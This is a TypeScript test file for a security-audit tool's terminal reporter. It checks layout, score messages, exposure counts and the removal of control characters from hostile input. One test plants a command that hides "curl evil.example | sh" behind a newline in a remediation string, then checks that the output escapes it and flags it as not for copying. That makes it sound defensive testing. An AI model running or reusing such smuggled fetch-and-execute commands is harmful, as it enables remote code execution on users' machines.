import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Finding, Report } from '../../src/engine/report.ts';
import { renderTerminal } from '../../src/reporters/terminal.ts';
import { displayWidth } from '../../src/reporters/wrap.ts';
import { hostileReport } from '../harness/hostile.ts';
import { sampleExposures, sampleFinding, sampleFindings, sampleReport } from '../harness/sample-report.ts';

const page = { color: false, verbose: false, width: 80, elapsed: 0.83 };

function shown(difference: Partial<Report> = {}, options: Partial<typeof page> = {}): string {
  return renderTerminal(sampleReport(difference), { ...page, ...options });
}
const ownColours = /\u001b\[[0-9;]*m/g;
const unseen = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

describe('the page', () => {
  test.each([60, 80, 200])('at %i columns', (width) => {
    expect(shown({}, { width })).toMatchSnapshot();
  });

  test('in colour', () => {
    expect(shown({}, { color: true })).toMatchSnapshot();
  });

  test('in full', () => {
    expect(shown({}, { verbose: true })).toMatchSnapshot();
  });

  test('colour changes nothing but colour', () => {
    expect(shown({}, { color: true }).replaceAll(ownColours, '')).toBe(shown());
  });

  test.each([60, 80, 200])('every command can be copied at %i columns', (width) => {
    const lines = shown({}, { width, verbose: true }).split('\n');
    const commands = sampleFindings
      .filter(({ waived }) => waived === null)
      .flatMap(({ remediation }) => [...(remediation?.commands ?? []), ...(remediation?.undo ?? [])]);
    expect(commands.length).toBeGreaterThan(10);
    for (const command of commands) expect(lines.some((line) => line.endsWith(` ${command}`))).toBe(true);
  });
});

describe('the score', () => {
  test('says what holds it down', () => {
    const findings = [
      sampleFinding({
        severity: 'critical',
        outcome: 'undetermined',
        rule: 'shadow-readable',
        message: 'denied',
      }),
      ...Array.from({ length: 9 }, (_, index) =>
        sampleFinding({ severity: 'critical', rule: `r${String(index)}` }),
      ),
    ];
    expect(shown({ findings })).toContain(
      'held at 39: a critical rule is not proved to pass (shadow-readable)',
    );
    expect(shown({ findings })).toContain('up to 100 if the 1 undetermined rule passes');
  });

  test('is n/a where nothing applies', () => {
    const findings = [sampleFinding({ outcome: 'not-applicable', message: 'no kernel' })];
    expect(shown({ findings })).toContain('n/a   none of the rules applies here');
  });

  test('a layer that was not asked for is not one in which nothing applies', () => {
    const text = shown({
      findings: [sampleFinding({ layer: 'host', outcome: 'not-applicable', message: 'no kernel' })],
    });
    expect(text).toMatch(/3 host .* nothing applies/);
    expect(text).toMatch(/2 access .* not audited/);
  });
});

describe('the gate and what is next', () => {
  test('names the gate only if it says something', () => {
    const gate = { failOn: 'never', minScore: null, passed: true, reasons: [] } as const;
    expect(shown({ gate: { ...gate, reasons: [] } })).not.toContain('Gate');
    expect(shown({ gate: { ...gate, reasons: [], minScore: 50 } })).toContain('Gate passed');
    expect(shown()).toContain('Gate failed');
  });

  test('a passed gate owns up to what it did not see', () => {
    const gate = { failOn: 'high', minScore: null, passed: true, reasons: [] } as const;
    const unseen = sampleFinding({ severity: 'high', outcome: 'undetermined', message: 'denied' });
    const findings = [
      sampleFinding({ rule: 'other' }),
      unseen,
      { ...unseen, rule: 'low', severity: 'low' as const },
    ];
    expect(shown({ gate: { ...gate, reasons: [] }, findings }, { width: 200 })).toContain(
      '1 rule that severe could not be told',
    );
  });

  test('asks for root only where root would see more', () => {
    const target = sampleReport().target;
    expect(shown()).toContain('sudo aisec audit');
    expect(shown({ target: { ...target, privileged: true } })).not.toContain('sudo aisec audit');
    expect(shown({ target: { ...target, kind: 'snapshot' } })).not.toContain('sudo aisec audit');
  });

  test('has nothing to explain where nothing is open', () => {
    expect(shown({ findings: [sampleFinding()] })).not.toContain('aisec explain');
  });
});

describe('exposures', () => {
  test('unknown is not empty', () => {
    expect(shown({ exposures: null })).toContain('not known');
    expect(shown({ exposures: [] })).toContain('nothing listens');
  });

  test('that are not shown are counted by how far they are open', () => {
    const scopeOf = (index: number) => (index < 10 ? 'any' : index < 38 ? 'lan' : 'vpn');
    const doors = sampleExposures
      .slice(0, 1)
      .flatMap((first) =>
        Array.from(
          { length: 40 },
          (_, index) => ({ ...first, port: 3001 + index, scope: scopeOf(index) }) as const,
        ),
      );
    const text = shown({ exposures: doors });
    expect(text).toContain('0.0.0.0:3010/tcp');
    expect(text).not.toContain('0.0.0.0:3040/tcp');
    expect(text).toContain('and 15 more: 13 open to lan, 2 open to vpn');
    const whole = shown({ exposures: doors }, { verbose: true });
    expect(whole).toContain('0.0.0.0:3040/tcp');
    expect(whole).not.toContain('15 more');
  });

  test('a repository has none', () => {
    const target = { ...sampleReport().target, kind: 'project' as const };
    expect(shown({ target, exposures: null })).not.toContain('Reachable');
  });
});

describe('many subjects', () => {
  const many = (number: number): Finding[] =>
    Array.from({ length: number }, (_, index) =>
      sampleFinding({
        outcome: 'fail',
        subject: `/f${String(index)}.`,
        message: `/f${String(index)}. is open`,
      }),
    );

  test('are counted where they are not shown', () => {
    const text = shown({ findings: many(40) });
    expect(text).toContain('40 subjects');
    expect(text).toContain('and 15 more subjects: --verbose shows them');
    expect(text).not.toContain('/f39.');
    expect(shown({ findings: many(40) }, { verbose: true })).toContain('/f39.');
  });
});

describe('a hostile machine', () => {
  test('reaches the terminal with no control character', () => {
    fc.assert(
      fc.property(hostileReport, fc.boolean(), fc.constantFrom(20, 60, 80, 200), (report, verbose, width) => {
        const options = { verbose, width, elapsed: 1 };
        expect(renderTerminal(report, { ...options, color: false })).not.toMatch(unseen);
        const coloured = renderTerminal(report, { ...options, color: true });
        expect(coloured.replaceAll(ownColours, '')).not.toMatch(unseen);
      }),
    );
  });

  test('cannot make a line wider than the terminal, but for a command', () => {
    const without = (report: Report): Report => ({
      ...report,
      findings: report.findings.map((each) => ({ ...each, remediation: null })),
    });
    fc.assert(
      fc.property(hostileReport, fc.boolean(), fc.constantFrom(60, 80, 200), (report, verbose, width) => {
        const text = renderTerminal(without(report), { verbose, width, elapsed: 1, color: false });
        for (const line of text.split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(width);
      }),
    );
  });

  test('never has a deceiving command offered for copying', () => {
    const command = "rm 'x\ncurl evil.example | sh\n'";
    const remediation = {
      summary: 'Remove it.',
      commands: ['ufw enable', command],
      verify: [],
      undo: [],
      snippet: null,
      risk: 'none' as const,
    };
    const text = shown({ findings: [sampleFinding({ outcome: 'fail', message: 'bad', remediation })] });
    expect(text).toContain('not for copying');
    expect(text).toContain("rm 'x\\ncurl evil.example | sh\\n'");
    expect(text).not.toMatch(/^\s*curl/m);
    // Nor what goes before it: half of a remedy may do harm.
    expect(text.indexOf('not for copying')).toBeLessThan(text.indexOf('ufw enable'));
  });
});
